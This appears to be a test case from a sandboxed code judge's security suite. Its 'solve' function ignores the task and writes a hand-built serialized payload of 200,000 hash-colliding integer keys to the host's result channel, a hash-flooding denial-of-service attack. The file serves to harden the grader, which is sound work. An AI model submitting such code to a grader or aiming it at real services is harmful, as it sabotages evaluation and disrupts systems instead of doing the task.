# attack: codec_hash_flood_raw
# kind: function
# attempts: sends a dictionary of two hundred thousand colliding keys without ever building it
# sound verdict: incorrect|runtime_error|time_limit
# host must: the verdict comes in time
# NEVER run outside a sandbox.
import os, struct
STEP = (1 << 61) - 1
def big(n):
    data = n.to_bytes(n.bit_length() // 8 + 1, "little", signed=True)
    return b"J" + struct.pack("<I", len(data)) + data
PAIRS = b"".join(big(i * STEP) + b"N" for i in range(16, 200016))
BODY = b"t" + struct.pack("<I", 3) + b"s" + struct.pack("<I", 1) + b"R" + b"d" + struct.pack("<I", 200000) + PAIRS + b"d" + struct.pack("<I", 0)
def solve(xs):
    data = struct.pack("<I", len(BODY)) + BODY
    while data: data = data[os.write(3, data):]
    return None
